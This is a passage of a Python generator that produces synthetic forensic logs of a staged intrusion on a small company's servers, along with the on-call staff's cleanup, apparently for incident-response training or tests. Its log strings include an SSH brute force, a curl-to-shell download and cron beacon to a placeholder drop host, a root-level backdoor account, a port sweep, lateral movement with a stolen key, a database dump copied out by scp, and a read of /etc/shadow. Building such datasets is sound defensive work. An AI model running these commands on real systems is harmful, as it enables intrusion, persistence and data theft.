    "backup", "nagios", "zabbix", "elastic", "steam", "vagrant", "centos",
    "ec2-user", "odoo", "sysadmin", "administrator", "tomcat", "mysql",
    "redis", "docker", "kafka", "gitlab", "user1", "test1", "demo",
    "operator", "server", "solr", "es", "ftp", "mongodb", "nginx", "apache",
    "student", "testuser", "ts3", "info", "sales", "office", "postfix",
    "web", "uucp", "ftpadmin", "mc", "minecraft1", "bitrix", "sftp", "ubnt",
]


def brute_force():
    """02:11:09 - 02:51:37: password guessing against bastion-01."""
    rng = R("bruteforce")
    f = F_BAUTH
    t_start = at("2026-03-14 02:11:09.201733")
    t_deploy = at("2026-03-14 02:44:00")
    t_stop = at("2026-03-14 02:51:20")
    hostile = [(at("2026-03-14 02:23:41"), HOSTILE_SCRIPT),
               (at("2026-03-14 02:37:12"), HOSTILE_CSV)]
    attempts = []   # (t, user)
    threads = [t_start, t_start + sec(4.7)]
    while True:
        i = min(range(len(threads)), key=lambda k: threads[k])
        t = threads[i]
        if t > t_stop:
            break
        if t >= t_deploy:
            user = "deploy" if rng.random() < 0.75 else "root"
        else:
            r = rng.random()
            user = "root" if r < 0.12 else rng.choice(WORDLIST)
        for k, (ht, name) in enumerate(hostile):
            if name and t >= ht:
                user = name
                hostile[k] = (ht, None)
                break
        attempts.append((t, user))
        threads[i] = t + sec(rng.uniform(9.0, 19.0))

    # a MaxStartups burst at 02:30: the tool briefly opened many connections
    burst_t = at("2026-03-14 02:29:58.611408")
    for k in range(9):
        attempts.append((burst_t + sec(k * 0.35), rng.choice(WORDLIST)))
    ml = SSHD_MAIN["bastion-01"]
    emit(f, burst_t + sec(3.2), "sshd", "error: beginning MaxStartups "
         "throttling", ml)
    for k in range(3):
        emit(f, burst_t + sec(3.3 + k * 0.2), "sshd", f"drop connection #10 from "
             f"[{ATTACKER_IP}]:{rng.randint(32768, 60999)} on [{BASTION_IP}]:22 "
             "past MaxStartups", ml)
    emit(f, burst_t + sec(9.4), "sshd", "exited MaxStartups throttling after "
         "00:00:06, 3 connections dropped", ml)

    ip = ATTACKER_IP
    for n, (t, user) in enumerate(sorted(attempts)):
        port = rng.randint(32768, 60999)
        p = P()
        tries = 3 if rng.random() < 0.15 else 1
        if user in (HOSTILE_SCRIPT, HOSTILE_CSV):
            tries = 1
        tg = ("hostile",) if user in (HOSTILE_SCRIPT, HOSTILE_CSV) else ()
        first = n == 0
        valid = user in ("root", "deploy")
        tt = t
        ft = ("bf_first",) if first else ()
        if not valid:
            emit(f, tt, "sshd", "Invalid user {u} from {ip} port {port}", p,
                 tg + ft, u=user, ip=ip, port=port)
            tt += sec(0.2 + rng.random() * 0.2)
            ft = ()
        for k in range(tries):
            if valid:
                emit(f, tt, "sshd", "pam_unix(sshd:auth): authentication "
                     "failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="
                     f"{ip}  user={user}", p, ft)
                ft = ()
            else:
                emit(f, tt, "sshd", "pam_unix(sshd:auth): check pass; user "
                     "unknown", p)
                emit(f, tt + sec(0.0003), "sshd", "pam_unix(sshd:auth): "
                     "authentication failure; logname= uid=0 euid=0 tty=ssh "
                     f"ruser= rhost={ip}", p)
            tt += sec(2.0 + rng.random() * 0.9)
            inv = "" if valid else "invalid user "
            emit(f, tt, "sshd", "Failed password for {inv}{u} from {ip} port "
                 "{port} ssh2", p, tg + (("bf_deploy",) if user == "deploy"
                                         else ()),
                 inv=inv, u=user, ip=ip, port=port)
            tt += sec(0.3 + rng.random() * 0.8)
        kind = "authenticating user" if valid else "invalid user"
        emit(f, tt, "sshd", "Connection closed by {kind} {u} {ip} port {port} "
             "[preauth]", p, tg, kind=kind, u=user, ip=ip, port=port)
        if tries > 1:
            emit(f, tt + sec(0.0002), "sshd", f"PAM {tries - 1} more "
                 "authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
                 f"rhost={ip}" + (f"  user={user}" if valid else ""), p)


def compromise():
    f = F_BAUTH
    rng = R("compromise")
    d_uid = 1002
    # 02:51:37 the password for deploy is found
    t = at("2026-03-14 02:51:37.118402")
    s1 = ssh_open(f, t, "deploy", ATTACKER_IP, 53122, method="password",
                  tags="accepted_attacker")
    audit(t - sec(0.05), "USER_AUTH", "pid={p} uid=0 auid=4294967295 "
          "ses=4294967295 subj=unconfined msg='op=PAM:authentication "
          "grantors=pam_unix acct=\"deploy\" exe=\"/usr/sbin/sshd\" hostname="
          f"{ATTACKER_IP} addr={ATTACKER_IP} terminal=ssh res=success'", p=s1.pid)
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1002 ses={ses} "
          "subj=unconfined msg='op=login id=1002 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={ATTACKER_IP} terminal=/dev/pts/0 res=success'",
          p=s1.pid, ses=s1.sid)
    sudo(f, at("2026-03-14 02:52:04.772010"), "deploy", d_uid, "list",
         tags="sudo_list")
    steps = [
        ("2026-03-14 02:53:10.412877", f"/usr/bin/curl -fsSL http://{DROP_IP}/x.sh"
         " -o /tmp/.x.sh", 1.3, "sudo_curl",
         ["/usr/bin/curl", "-fsSL", f"http://{DROP_IP}/x.sh", "-o", "/tmp/.x.sh"]),
        ("2026-03-14 02:53:22.090310", "/usr/bin/chmod +x /tmp/.x.sh", 0.02,
         "sudo_chmod", ["/usr/bin/chmod", "+x", "/tmp/.x.sh"]),
        ("2026-03-14 02:53:31.544192", "/bin/bash /tmp/.x.sh", 259.2, "sudo_run",
         ["/bin/bash", "/tmp/.x.sh"]),
    ]
    for ts, cmd, dur, tag, argv in steps:
        tt = at(ts)
        sudo(f, tt, "deploy", d_uid, cmd, dur, tags=tag)
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
        audit(tt + sec(0.006), "EXECVE", f"argc={len(argv)} {args}", tags="audit_exec",
              sd='[origin ip="{ip}"][meta sequenceId="{sq}"]',
              sd_args={"ip": BASTION_IP, "sq": rng.randint(100, 999)})

    # what /tmp/.x.sh did, as root
    x0 = at("2026-03-14 02:53:31.544192")
    emit(f, x0 + sec(1.71), "crontab", "(root) REPLACE (root)", P(),
         "crontab_replace")
    audit(x0 + sec(1.70), "EXECVE", 'argc=2 a0="crontab" a1="-"',
          sd="-")
    emit(f, at("2026-03-14 02:54:01.021377"), "cron",
         "(root) RELOAD (crontabs/root)", CROND["bastion-01"])
    ua = P()
    emit(f, x0 + sec(2.40), "useradd", "new group: name=sysbackup, GID=1003",
         ua, "useradd")
    emit(f, x0 + sec(2.41), "useradd", "new user: name=sysbackup, UID=0, "
         "GID=1003, home=/home/sysbackup, shell=/bin/bash, from=/dev/pts/0",
         ua, "useradd")
    audit(x0 + sec(2.41), "ADD_USER", "pid={p} uid=0 auid=1002 ses={ses} "
          "subj=unconfined msg='op=add-user acct=\"sysbackup\" "
          "exe=\"/usr/sbin/useradd\" hostname=bastion-01 addr=? "
          "terminal=pts/0 res=success'", p=ua, ses=s1.sid, tags="audit_user")
    cp = P()
    emit(f, x0 + sec(2.93), "chpasswd", "pam_unix(chpasswd:chauthtok): "
         "password changed for sysbackup", cp, "chpasswd")
    # internal scan (shows up on web-01 as UFW blocks)
    nc = P()
    tn = at("2026-03-14 02:55:41.060311")
    spawn(H_BASTION, tn, nc)
    audit(tn, "EXECVE", 'argc=9 a0="nc" a1="-zw1" a2="10.20.0.7" a3="3306" '
          'a4="5432" a5="6379" a6="9200" a7="27017" a8="8080"', sd="-",
          tags="audit_sweep")
    # lateral movement #1: root's own key is trusted by root@db-01
    remote = ("useradd -m -s /bin/bash -G sudo sysbackup && echo "
              "sysbackup:Backup2026! | chpasswd")
    audit(at("2026-03-14 02:57:47.880217"), "EXECVE", 'argc=6 a0="ssh" a1="-i" '
          'a2="/root/.ssh/id_ed25519" a3="-oStrictHostKeyChecking=no" '
          f'a4="root@{DB_IP}" a5={hexarg(remote)}', tags="audit_lateral")
    # lateral movement #2: interactive as sysbackup
    audit(at("2026-03-14 03:02:09.301552"), "EXECVE",
          f'argc=2 a0="ssh" a1="sysbackup@{DB_IP}"', tags="audit_lateral")

    # first attacker session ends
    ssh_close(s1, at("2026-03-14 03:14:05.660190"), tags="attacker_logout")

    # persistence: root crontab "*/10 * * * *" beacon
    beacon = f"/usr/bin/curl -fsSL http://{DROP_IP}/x.sh | /bin/sh >/dev/null 2>&1"
    t = at("2026-03-14 03:00:01")
    first = True
    while t <= at("2026-03-14 08:50:01"):
        blocked = t == at("2026-03-14 08:50:01")
        j = t + sec(rng.random() * 0.3)
        dur = 129.8 if blocked else 0.9 + rng.random() * 1.5
        cron_job(f, j, "root", 0, beacon, dur,
                 tags=("persist_first" if first else
                       "persist_blocked" if blocked else "persist"))
        if first:
            sh = P()
            spawn(H_BASTION, j + sec(0.003), sh)
            audit(j + sec(0.004), "EXECVE",
                  f'argc=3 a0="/bin/sh" a1="-c" a2={hexarg(beacon)}',
                  sd='[origin ip="{ip}"][exec@32473 cmdline="/bin/sh -c \\"'
                     '{cmd}\\""]',
                  sd_args={"ip": BASTION_IP, "cmd": beacon},
                  tags="sd_escaped")
        if blocked:
            for k, off in enumerate((0.05, 1.07, 3.11, 7.19, 15.35, 31.67)):
                ufw(F_B5424, j + sec(off), BASTION, BASTION_IP, DROP_IP,
                    41876, 80, rng, direction="out", ttl=64, tags="ufw_out",
                    iface="ens18")
        first = False
        t += timedelta(minutes=10)

    # db-01: root login with bastion's root key, creates sysbackup
    fd = F_DB
    t = at("2026-03-14 02:57:48.203155")
    rs = ssh_open(fd, t, "root", BASTION_IP, 41822, key=ROOT_BASTION_KEY,
                  tags="db_root_key", uid=0)
    ua = P()
    emit(fd, t + sec(0.31), "useradd", "new group: name=sysbackup, GID=1002",
         ua, "db_useradd")
    emit(fd, t + sec(0.32), "useradd", "new user: name=sysbackup, UID=1002, "
         "GID=1002, home=/home/sysbackup, shell=/bin/bash, from=none", ua,
         "db_useradd")
    um = P()
    emit(fd, t + sec(0.36), "useradd", "add 'sysbackup' to group 'sudo'", ua)
    emit(fd, t + sec(0.36), "useradd", "add 'sysbackup' to shadow group 'sudo'",
         ua)
    emit(fd, t + sec(0.47), "chpasswd", "pam_unix(chpasswd:chauthtok): "
         "password changed for sysbackup", um)
    ssh_close(rs, t + sec(0.52))

    t = at("2026-03-14 03:02:11.512345")
    ss = ssh_open(fd, t, "sysbackup", BASTION_IP, 41876, method="password",
                  tags="db_sysbackup_login", uid=1002)
    sb_uid = 1002
    dump = "/tmp/.cache.sql"
    sudo(fd, at("2026-03-14 03:03:05.118022"), "sysbackup", sb_uid,
         f"/usr/bin/mysqldump --all-databases --single-transaction --routines "
         f"-r {dump}", 172.4, pwd="/home/sysbackup", tags="db_mysqldump")
    sudo(fd, at("2026-03-14 03:06:10.402117"), "sysbackup", sb_uid,
         f"/usr/bin/gzip -9 {dump}", 41.9, pwd="/home/sysbackup", tags="db_gzip")
    sudo(fd, at("2026-03-14 03:07:02.880410"), "sysbackup", sb_uid,
         f"/usr/bin/scp -q -o StrictHostKeyChecking=no {dump}.gz "
         f"drop@{DROP_IP}:/srv/in/db-01.sql.gz", 158.6, pwd="/home/sysbackup",
         tags="db_scp")
    ssh_close(ss, at("2026-03-14 03:10:20.044871"), tags="db_sysbackup_logout")

    # ---- the attacker comes back at 08:31 ----
    t = at("2026-03-14 08:31:12.530112")
    s2 = ssh_open(f, t, "deploy", ATTACKER_IP, 60144, method="password",
                  tags="accepted_attacker_2")
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1002 ses={ses} "
          "subj=unconfined msg='op=login id=1002 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={ATTACKER_IP} terminal=/dev/pts/0 res=success'",
          p=s2.pid, ses=s2.sid)
    sudo(f, at("2026-03-14 08:33:40.100921"), "deploy", d_uid,
         "/usr/bin/cat /etc/shadow", 0.05, tags="sudo_shadow")

    # ---- response: alice (on call) ----
    a = USERS["alice"]["uid"]
    t = at("2026-03-14 08:42:55.007310")
    sa = ssh_open(f, t, "alice", ALICE_WS, 50412, tags="alice_login")
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1000 ses={ses} "
          "subj=unconfined msg='op=login id=1000 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={ALICE_WS} terminal=/dev/pts/1 res=success'",
          p=sa.pid, ses=sa.sid)
    resp = [
        ("08:43:20.311002", "/usr/bin/last -i -n 20", 0.1, ()),
        ("08:43:58.902114", '/usr/bin/grep -a "Accepted password" '
         '/var/log/auth.log', 0.2, ()),
        ("08:44:40.552981", "/usr/bin/ss -tnp", 0.1, ()),
        ("08:45:10.118230", f"/usr/sbin/ufw insert 1 deny from {ATTACKER_IP}",
         1.4, "ufw_deny_in"),
        ("08:45:40.774310", f"/usr/sbin/ufw insert 1 deny out to {DROP_IP}",
         1.3, "ufw_deny_out"),
        ("08:46:15.260045", "/usr/bin/pkill -KILL -u deploy", 0.05, "pkill"),
        ("08:46:50.412991", "/usr/bin/passwd -l deploy", 0.1, "passwd_lock"),
        ("08:47:30.005127", "/usr/bin/crontab -l", 0.02, "crontab_list"),
        ("08:48:40.630228", "/usr/sbin/userdel -r sysbackup", 0.03,
         "userdel_refused"),
        ("08:49:05.882300", "/usr/sbin/userdel -f -r sysbackup", 0.2, "userdel"),
        ("08:51:50.101443", "/usr/bin/cp -a /var/spool/cron/crontabs/root "
         "/root/ir-20260314/crontab.root", 0.02, ()),
        ("08:52:30.550871", "/usr/bin/crontab -r", 0.02, "crontab_delete"),
        ("08:55:12.903004", "/usr/sbin/visudo -f /etc/sudoers.d/90-deploy",
         61.0, "visudo"),
        ("08:57:40.218833", "/usr/bin/sed -i s/^PasswordAuthentication yes/"
         "PasswordAuthentication no/ /etc/ssh/sshd_config", 0.01,
         "sshd_config"),
        ("08:58:05.640120", "/usr/bin/systemctl reload ssh", 0.2, "ssh_reload"),
    ]
    for hms, cmd, dur, tag in resp:
        tt = at("2026-03-14 " + hms)
        sudo(f, tt, "alice", a, cmd, dur, tty="pts/1", tags=tag)
        if tag in ("ufw_deny_in", "ufw_deny_out"):
            ip = P()
            spawn(H_BASTION, tt + sec(0.5), ip)
            audit(tt + sec(0.51), "NETFILTER_CFG", "table=filter family=2 "
                  "entries={e} op=xt_replace pid={p} subj=unconfined "
                  "comm=\"iptables-restor\"", p=ip,
                  e=212 if tag == "ufw_deny_in" else 216, sd="-")
        if tag == "pkill":
            ssh_close(s2, tt + sec(0.04), client=False, tags="attacker_killed")
        if tag == "passwd_lock":
            pp = P()
            emit(f, tt + sec(0.05), "passwd", "password for 'deploy' changed "
                 "by 'root'", pp, "passwd_lock")
            audit(tt + sec(0.05), "USER_CHAUTHTOK", "pid={p} uid=0 auid=1000 "
                  "ses={ses} subj=unconfined msg='op=change-password id=1002 "
                  "exe=\"/usr/bin/passwd\" hostname=bastion-01 addr=? "
                  "terminal=pts/1 res=success'", p=pp, ses=sa.sid)
        if tag == "crontab_list":
            emit(f, tt + sec(0.01), "crontab", "(root) LIST (root)", P())
        if tag == "userdel":
            ud = P()
            emit(f, tt + sec(0.1), "userdel", "delete user 'sysbackup'", ud,
                 "userdel")
            emit(f, tt + sec(0.1), "userdel", "removed group 'sysbackup' owned "
                 "by 'sysbackup'", ud)
            emit(f, tt + sec(0.1), "userdel", "removed shadow group 'sysbackup' "
                 "owned by 'sysbackup'", ud)
            audit(tt + sec(0.1), "DEL_USER", "pid={p} uid=0 auid=1000 ses={ses} "
                  "subj=unconfined msg='op=delete-user acct=\"sysbackup\" "
                  "exe=\"/usr/sbin/userdel\" hostname=bastion-01 addr=? "
                  "terminal=pts/1 res=success'", p=ud, ses=sa.sid,
                  tags="audit_user")
        if tag == "crontab_delete":
            emit(f, tt + sec(0.01), "crontab", "(root) DELETE (root)", P(),
                 "crontab_delete")
            emit(f, at("2026-03-14 08:53:01.009181"), "cron",
                 "(root) RELOAD (crontabs/root)", CROND["bastion-01"])
        if tag == "ssh_reload":
            m = SSHD_MAIN["bastion-01"]
            emit(f, tt + sec(0.1), "sshd", "Received SIGHUP; restarting.", m)
            emit(f, tt + sec(0.15), "sshd", "Server listening on 0.0.0.0 port 22.",
                 m)
            emit(f, tt + sec(0.15), "sshd", "Server listening on :: port 22.", m)

    # the attacker keeps trying, now blocked at the firewall
    for base in ("08:47:03.201180", "09:02:41.774002", "09:17:20.050611"):
        b = at("2026-03-14 " + base)
        spt = rng.randint(32768, 60999)
        for off in (0.0, 1.02, 3.06, 7.14)[: 3 if base.startswith("09:17") else 4]:
            ufw(F_B5424, b + sec(off), BASTION, ATTACKER_IP, BASTION_IP, spt, 22,
                rng, tags="ufw_in")

    # ---- bob joins, cleans db-01 ----
    bb = USERS["bob"]["uid"]
    t = at("2026-03-14 09:01:30.660218")
    sb = ssh_open(f, t, "bob", BOB_WS, 44718, tags="bob_login")
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1001 ses={ses} "
          "subj=unconfined msg='op=login id=1001 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={BOB_WS} terminal=/dev/pts/2 res=success'",
          p=sb.pid, ses=sb.sid)
    t = at("2026-03-14 09:03:10.118250")
    sd = ssh_open(fd, t, "bob", BASTION_IP, 45902, tags="db_bob_login")
    for hms, cmd, dur, tag in [
        ("09:03:40.301276", "/usr/bin/last -i -n 30", 0.1, ()),
        ("09:04:05.882113", "/usr/bin/ls -la /tmp", 0.01, ()),
        ("09:05:20.441870", "/usr/sbin/userdel -r sysbackup", 0.2, "db_userdel"),
        ("09:06:45.120044", "/usr/bin/sed -i /root@bastion-01/d "
         "/root/.ssh/authorized_keys", 0.01, "db_authkeys"),
        ("09:07:02.540911", "/usr/bin/sha256sum /tmp/.cache.sql.gz", 2.3, ()),
        ("09:07:30.008812", "/usr/bin/mv /tmp/.cache.sql.gz /root/ir-20260314/",
         0.02, ()),
    ]:
        tt = at("2026-03-14 " + hms)
        sudo(fd, tt, "bob", bb, cmd, dur, tags=tag)
        if tag == "db_userdel":
            ud = P()
            emit(fd, tt + sec(0.12), "userdel", "delete user 'sysbackup'", ud,
                 "db_userdel")
            emit(fd, tt + sec(0.12), "userdel", "removed group 'sysbackup' "
                 "owned by 'sysbackup'", ud)
            emit(fd, tt + sec(0.12), "userdel", "removed shadow group "
                 "'sysbackup' owned by 'sysbackup'", ud)
    ssh_close(sd, at("2026-03-14 09:15:40.902551"))
    ssh_close(sb, at("2026-03-14 09:16:10.318804"))
    ssh_close(sa, at("2026-03-14 09:24:12.771093"), tags="alice_logout")

    # web-01: the x.sh port sweep from bastion-01 (10.20.0.5)
    w = at("2026-03-14 02:55:41.120544")
    sweep = [(3306, 0.0), (5432, 0.9), (6379, 1.1), (9200, 1.9), (27017, 2.2),
             (8080, 3.0)]
    for dpt, off in sweep:
        st = None
        if dpt == 3306:
            # delivered late by imklog: printed after the 02:55:42 lines
            st = w + sec(1.5)
        ufw(F_WEB, w + sec(off), WEB, BASTION_IP, WEB_IP,
            rng.randint(32768, 60999), dpt, rng, ttl=64, tags="web_sweep",
            sort_ts=st)


def out_of_order_noise():
    """A second out-of-order line in web-01/syslog: a kernel UFW line written
    1.3 s after the following CRON line but stamped earlier."""
    rng = R("ooo")
    t = at("2026-03-12 14:30:00.702114")
    ufw(F_WEB, t, WEB, "192.0.2.188", WEB_IP, 51515, 3389, rng, ttl=113,
        sort_ts=t + sec(1.3), tags="ooo_noise")


def malformed():
    """10 lines of bastion-01 auth.log written just after auth.log ends
    (a copy cut short while the disk was full).  Line 4 lost its timestamp,
    line 7 is a write cut off after "Mar 1"."""
    f = F_BMAL
    emit(f, at("2026-03-14 18:03:51.310422"), "sshd", "Connection closed by "
         "192.0.2.140 port 33512 [preauth]", P())
    p = P()
    emit(f, at("2026-03-14 18:12:02.118230"), "sshd", "Invalid user oracle "
         "from 192.0.2.163 port 51870", p)
    emit(f, at("2026-03-14 18:12:02.530114"), "sshd", "Connection closed by "
         "invalid user oracle 192.0.2.163 port 51870 [preauth]", p)
    emit(f, at("2026-03-14 18:14:44.2"), "", "", None, "broken",
         x_raw="bastion-01 sshd[{p}]: Connection closed by 192.0.2.211 port "
               "40022 [preauth]", p=P())
    c = P()
    emit(f, at("2026-03-14 18:17:01.204410"), "CRON", "pam_unix(cron:session): "
         "session opened for user root(uid=0) by (uid=0)", c)
    emit(f, at("2026-03-14 18:17:01.206102"), "CRON",
         "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", c)
    emit(f, at("2026-03-14 18:17:01.3"), "", "", None, "broken", x_raw="Mar 1")
    emit(f, at("2026-03-14 18:17:01.611870"), "CRON", "pam_unix(cron:session): "
         "session closed for user root", c)
    k = P()
    emit(f, at("2026-03-14 18:19:33.042871"), "sshd", "error: "
         "kex_exchange_identification: Connection closed by remote host", k)
    emit(f, at("2026-03-14 18:19:33.043310"), "sshd", "Connection closed by "
         "192.0.2.57 port 40770", k)


def rollover():
    f = F_ROLL
    rng = R("rollover")
    t0 = datetime(2025, 12, 31, 23, 59, 50, 120000, tzinfo=UTC)
    emit(f, t0, "chronyd", "Selected source 10.20.0.1 (ntp1.example.com)", 702)
    ufw(f, t0 + sec(2.4), EDGE, "192.0.2.201", "10.20.0.2", 44321, 23, rng,
        iface="ens19")
    emit(f, t0 + sec(4.9), "sshd", "Connection closed by 192.0.2.201 port "
         "44390 [preauth]", P())
    emit(f, t0 + sec(6.2), "haproxy", "192.0.2.77:50112 [31/Dec/2025:23:59:56.301]"
         " https~ web/web-01 0/0/1/12/13 200 5120 - - ---- 4/4/0/0/0 0/0 "
         "\"GET /api/health HTTP/1.1\"", 811)
    emit(f, t0 + sec(8.1), "haproxy", "192.0.2.77:50114 [31/Dec/2025:23:59:58.221]"
         " https~ web/web-01 0/0/1/9/10 200 5120 - - ---- 4/4/0/0/0 0/0 "
         "\"GET /api/health HTTP/1.1\"", 811)
    ufw(f, t0 + sec(9.7), EDGE, "192.0.2.16", "10.20.0.2", 60001, 3389, rng,
        iface="ens19")
    m = datetime(2026, 1, 1, 0, 0, 0, 210000, tzinfo=UTC)
    emit(f, m, "systemd", "Starting logrotate.service - Rotate log files...", 1)
    emit(f, m + sec(0.01), "systemd", "Starting dpkg-db-backup.service - "
         "Daily dpkg database backup service...", 1)
    emit(f, m + sec(0.6), "systemd", "Starting sysstat-collect.service - "
         "system activity accounting tool...", 1)
    emit(f, m + sec(0.9), "systemd", "sysstat-collect.service: Deactivated "
         "successfully.", 1)
    emit(f, m + sec(0.9), "systemd", "Finished sysstat-collect.service - "
         "system activity accounting tool.", 1)
    cron_job(f, m + sec(0.8), "root", 0, "/usr/local/sbin/haproxy-ocsp-refresh "
             ">/dev/null 2>&1", 0, pam=False)
    emit(f, m + sec(1.3), "systemd", "dpkg-db-backup.service: Deactivated "
         "successfully.", 1)
    emit(f, m + sec(1.3), "systemd", "Finished dpkg-db-backup.service - "
         "Daily dpkg database backup service.", 1)
    emit(f, m + sec(1.9), "rsyslogd", '[origin software="rsyslogd" swVersion='
         '"8.2302.0" x-pid="597" x-info="https://www.rsyslog.com"] rsyslogd '
         'was HUPed', None)
    emit(f, m + sec(2.0), "systemd", "logrotate.service: Deactivated "
         "successfully.", 1)
    emit(f, m + sec(2.0), "systemd", "Finished logrotate.service - Rotate log "
         "files.", 1)
    emit(f, m + sec(5.4), "haproxy", "192.0.2.77:50130 [01/Jan/2026:00:00:05.412]"
         " https~ web/web-01 0/0/1/11/12 200 5120 - - ---- 4/4/0/0/0 0/0 "
         "\"GET /api/health HTTP/1.1\"", 811)
    emit(f, m + sec(9.6), "chronyd", "Source 10.20.0.1 replaced with "
         "10.20.0.3 (ntp2.example.com)", 702)
    ufw(f, m + sec(9.9), EDGE, "192.0.2.16", "10.20.0.2", 60017, 3389, rng,
        iface="ens19")


# --------------------------------------------------------------------------
# More evidence formats: nginx access logs (web-01), an AWS CloudTrail
# delivery file and Windows events from alice's workstation.  They are built
# after the syslog files, each from its own RNG stream, and they read what
# they must agree with (alice's SSH sessions, the CI deploys, the nightly
# backups) from the syslog events already built.  So adding them leaves
# every byte of the syslog files as it was.
# --------------------------------------------------------------------------

F_ACCESS = f"{INC}/web-01/access.log"
F_ACCESS_CET = f"{INC}/web-01/access-cet.log"
F_TRAIL = f"{INC}/aws/cloudtrail.json"
F_SYSMON = f"{INC}/ws-alice/sysmon.jsonl"
EXTRA_FORMATS = {
    F_ACCESS: "nginx combined access log (+0000)",
    F_ACCESS_CET: "nginx combined access log (+0100)",
    F_TRAIL: "AWS CloudTrail delivery file (JSON)",
    F_SYSMON: "Windows events, NXLog/OTRF JSON lines",
}

CET = timezone(timedelta(hours=1))   # Europe/Berlin: CET until 29 March 2026
NAT_IP = "198.51.100.20"             # the estate's public (NAT) address
VPN_IP = "10.20.0.250"               # vpn-01, the WireGuard gateway
SHOP = "https://shop.example.com"

# The six syslog files are pinned by the tests; the generator refuses to
# change them by accident.
PINNED_SHA256 = {
    f"{INC}/bastion-01/auth.log":
        "c27ecf1953caa8f8ac9cb9946033ad745570f06634aaa9bf5b2d7f48824404ba",
    f"{INC}/web-01/syslog":
        "2743f4847f6c90090dfab73499fc13a43d4ad0769e9c92bfdb35432a02d808d2",
    f"{INC}/db-01/auth.log":
        "9cbcde57a5dec3974427365e9a8229e5f1c2b8086806ba9fceb1e2ad5e9d0e0e",
    f"{INC}/bastion-01/messages-rfc5424.log":
        "476d24a4691b381eb03bd55d9b8d8f5384a8ec3444af6389ed3b4d54cb0876e3",
    f"{INC}/bastion-01/malformed.log":
        "695494276d26bbaab74326b7baa274493071f9c6137bc26afd015cdd38a0decf",
    "rollover/syslog-newyear.log":
        "ceb301b16ccb5d2212eaa367a18cf43720b727f8b56e0626335a7f049eb81411",
}


@dataclass
class Context:
    alice_ssh: list    # (accepted, port, disconnect) of alice's bastion-01 logins
    ci_reloads: list   # php8.2-fpm reloads on web-01 (the CI deploys)
    backups: list      # (start, end) of db-01's nightly mysql-backup.sh


def world_context() -> Context:
    evs = sorted(EVENTS, key=lambda e: (e.sort_ts, e.order))
    opened, alice = {}, []
    for e in evs:
        if e.file is F_BAUTH and e.args.get("ip") == ALICE_WS:
            if e.fmt.startswith("Accepted"):
                opened[e.args["port"]] = e.ts
            elif e.fmt.startswith("Received disconnect"):
                alice.append((opened.pop(e.args["port"]), e.args["port"], e.ts))
    if opened:
        raise SystemExit("alice has a bastion-01 session without a disconnect")
    ci = [e.ts for e in evs
          if e.file is F_WEB and e.fmt.startswith("Reloaded php8.2-fpm")]
    backups = []
    for e in evs:
        if e.file is F_DB and "mysql-backup.sh" in str(e.args.get("cmd", "")):
            end = next(x.ts for x in evs if x.file is F_DB and x.proc is e.proc
                       and "session closed" in x.fmt)
            backups.append((e.ts, end))
    return Context(alice, ci, backups)


# ---- nginx ---------------------------------------------------------------

# nginx/1.22.1's built-in error pages (server_tokens on), in bytes
NGX_301, NGX_400, NGX_401, NGX_403, NGX_404 = 169, 157, 179, 153, 153
SF_404 = 2114          # the shop's own (Symfony) 404 page, gzipped
SF_REDIRECT = 318      # a Symfony RedirectResponse body

UA_BROWSERS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
     "like Gecko) Chrome/145.0.0.0 Safari/537.36", 5),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
     "like Gecko) Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0", 2),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 "
     "Firefox/148.0", 2),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/26.3 Safari/605.1.15", 2),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36", 1),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/"
     "605.1.15 (KHTML, like Gecko) Version/26.3 Mobile/15E148 Safari/604.1", 4),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/145.0.0.0 Mobile Safari/537.36", 4),
]
UA_EDGE_WIN = UA_BROWSERS[1][0]
UA_ATTACKER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
UA_GOBUSTER = "gobuster/3.6"
BOTS = [  # user agent, address maker, weight
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     lambda rng: f"2001:db8:f860:4801::{rng.randint(0x10, 0x9f):x}", 5),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
     lambda rng: f"198.51.100.{rng.randint(210, 219)}", 3),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
     lambda rng: f"198.51.100.{rng.randint(230, 239)}", 2),
]

PRODUCTS = [  # slug, product-card image bytes
    ("ethiopia-yirgacheffe-250g", 31822), ("colombia-huila-1kg", 29410),
    ("kenya-nyeri-aa-250g", 33107), ("espresso-blend-casa-1kg", 27764),
    ("decaf-swiss-water-250g", 25319), ("assam-breakfast-250g", 22871),
    ("sencha-uji-100g", 24096), ("matcha-ceremonial-30g", 19743),
    ("earl-grey-bergamot-100g", 23558), ("v60-dripper-ceramic", 18212),
    ("aeropress-go", 21437), ("gooseneck-kettle-1l", 20985),
    ("moka-pot-6-cup", 26630), ("burr-grinder-c40", 28401),
    ("french-press-800ml", 22204), ("gift-box-discovery", 34528),
]
CATEGORIES = ["coffee", "tea", "brewing-gear", "gift-sets", "accessories"]
